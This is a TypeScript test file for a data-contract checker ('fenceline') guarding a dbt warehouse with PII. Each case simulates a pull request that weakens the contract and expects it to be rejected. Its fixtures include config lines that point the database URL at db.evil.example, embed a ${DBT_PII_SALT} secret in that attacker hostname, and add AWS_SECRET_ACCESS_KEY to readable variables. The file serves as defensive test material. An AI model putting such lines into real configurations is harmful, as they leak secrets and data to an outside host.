import { expect, test } from 'vitest';
import { type Attack, LEAK, runAttack, SOURCE, spell } from './attack.ts';

const CONFIG = 'fenceline.yml';
const SOURCES = 'models/staging/_sources.yml';
const EMAIL = `            meta: { pii: true, pii_type: email, sensitivity: medium }
            tags: [pii]
`;
const leak = `select id, email as contact from ${SOURCE}\n`;
const lenient = `version: 1
sync: { tables: { user: { from: accounts_user, exclude: [password] }, event: { from: activity_event }, organization: { from: accounts_organization }, appointment: { from: scheduling_appointment } } }
contract: { tiers: { all: { path: marts, allow: clear } }, masks: { hash_pii: { yields: pseudonymous, secret: pii_salt } } }
`;

/** Ways in which a pull request makes a contract of its own. Each fails, and says what it did. */
const attacks: readonly (Attack & { readonly name: string; readonly says: string })[] = [
  {
    name: 'the folder of the project has another name',
    move: ['warehouse', 'analytics'],
    project: 'analytics',
    head: { [CONFIG]: lenient, [LEAK]: leak },
    says: 'error contract-weakened project-moved',
  },
  {
    name: 'folder and project have another name',
    move: ['warehouse', 'analytics'],
    project: 'analytics',
    head: { 'dbt_project.yml': ['name: clinic', 'name: other'], [CONFIG]: lenient, [LEAK]: leak },
    says: 'error contract-weakened project-moved',
  },
  {
    name: 'another file is named as the contract',
    head: { 'lenient.yml': lenient, [LEAK]: leak },
    args: ['--config', 'lenient.yml'],
    says: 'error contract-weakened config-moved',
  },
  {
    name: 'the contract is removed for another file',
    move: ['warehouse/fenceline.yml', 'warehouse/lenient.yml'],
    head: { 'lenient.yml': lenient, [LEAK]: leak },
    args: ['--config', 'lenient.yml'],
    says: 'error contract-weakened config-moved',
  },
  {
    name: 'a lenient file of the base is named as the contract',
    base: { 'docs/sample.yml': lenient },
    head: { [LEAK]: leak },
    args: ['--config', 'docs/sample.yml'],
    says: 'error contract-weakened config-moved',
  },
  {
    name: 'the folder of a tier is another one',
    head: { [CONFIG]: ['path: marts/safe,', 'path: marts/safer,'], 'models/marts/safer/one.sql': 'select 1 as one\n' },
    says: 'error contract-weakened left-tier',
  },
  {
    name: 'a tier moves with its models, and leaves its folder open',
    move: ['warehouse/models/marts/safe', 'warehouse/models/marts/public'],
    head: { [CONFIG]: ['path: marts/safe,', 'path: marts/public,'] },
    says: 'error contract-weakened tier-moved',
  },
  {
    name: 'a mart moves out of its tier',
    move: [
      'warehouse/models/marts/safe/mart_event_type_volume.sql',
      'warehouse/models/marts/mart_event_type_volume.sql',
    ],
    says: 'error contract-weakened moved',
  },
  {
    name: 'a mart moves out of its tier under another name',
    move: ['warehouse/models/marts/safe/mart_event_type_volume.sql', 'warehouse/models/marts/volume.sql'],
    head: {
      'models/marts/volume.sql': `{{ config(schema='marts', alias='mart_event_type_volume') }} select email from ${SOURCE}\n`,
      'models/marts/_marts.yml': 'models: []\n',
    },
    says: 'error contract-weakened moved',
  },
  {
    name: 'a waiver arrives together with the finding that it waives',
    head: {
      [LEAK]: leak,
      [CONFIG]: [
        '  masks:\n',
        `  waivers: [{ model: leak, column: contact, source: raw.raw_user.email, reason: none, until: ${inDays(30)} }]\n  masks:\n`,
      ],
    },
    says: 'error contract-weakened waiver-added',
  },
  {
    name: 'a waiver of what the base has never ends',
    base: { [LEAK]: leak },
    head: {
      [CONFIG]: [
        '  masks:\n',
        '  waivers: [{ model: leak, column: contact, source: raw.raw_user.email, reason: none, until: 9999-12-31 }]\n  masks:\n',
      ],
    },
    says: 'error contract-weakened waiver-long',
  },
  {
    name: 'rows are not verified any more',
    head: { [CONFIG]: ['values: true', 'values: false'] },
    says: 'error contract-weakened setting-lowered',
  },
  {
    name: 'the tag of a copied table is gone',
    base: { [SOURCES]: ['      - name: raw_event\n', '      - name: raw_event\n        tags: [pii]\n'] },
    head: { [SOURCES]: ['      - name: raw_event\n        tags: [pii]\n', '      - name: raw_event\n'] },
    says: 'error contract-weakened untagged',
  },
  {
    name: 'a tag is gone, and the source and project have other names',
    head: {
      [SOURCES]: [EMAIL, ''],
      'dbt_project.yml': ['name: clinic', 'name: other'],
    },
    says: 'error contract-weakened untagged',
  },
  {
    name: 'templates are to read one variable more',
    head: { [CONFIG]: ['version: 1\n', 'version: 1\nenv: [AWS_SECRET_ACCESS_KEY]\n'] },
    says: 'error contract-weakened env-added',
  },
  {
    name: 'the rows are to come from another server',
    head: { [CONFIG]: ['postgres:\n', 'postgres:\n  url: postgres://db.evil.example/clinic\n'] },
    says: 'error contract-weakened url-changed',
  },
  {
    name: 'somebody else is to approve',
    head: { [CONFIG]: ['contract:\n', 'contract:\n  approvers: [eve]\n'] },
    says: 'error contract-weakened approver-added',
  },
];

test.each(attacks)(
  'it does not help that $name',
  async ({ says, ...attack }) => {
    const result = await runAttack(attack);

    expect(result).toMatchObject({ code: 1 });
    expect(spell(result)).toContain(says);
  },
  60_000,
);

test('a variable in an address is refused before anything is sent', async () => {
  const url = ['postgres://$', '{DBT_PII_SALT}.evil.example/clinic'].join('');
  const { code, words } = await runAttack({ head: { [CONFIG]: ['postgres:\n', `postgres:\n  url: ${url}\n`] } });

  expect(code).toBe(2);
  expect(words).toContain('postgres.url holds a variable beside other text');
}, 60_000);

test('a table that is newly copied is told, whatever its name', async () => {
  const copied = "    more: { from: public.accounts_user_copy, to: 'main.harmless' }\n    event: {";
  const result = await runAttack({ head: { [CONFIG]: ['    event: {', copied] } });

  expect(result.code).toBe(0);
  expect(spell(result)).toEqual(['warning contract-weakened table-added']);
  expect(result.stdout).toContain('public.accounts_user_copy is copied from Postgres');
}, 60_000);

test('an honest change of the example is as it was', async () => {
  const { code, stdout } = await runAttack({ head: { 'models/marts/safe/one.sql': 'select 1 as one\n' } });

  expect({ code, stdout }).toMatchObject({ code: 0 });
}, 60_000);

function inDays(days: number): string {
  return new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10);
}
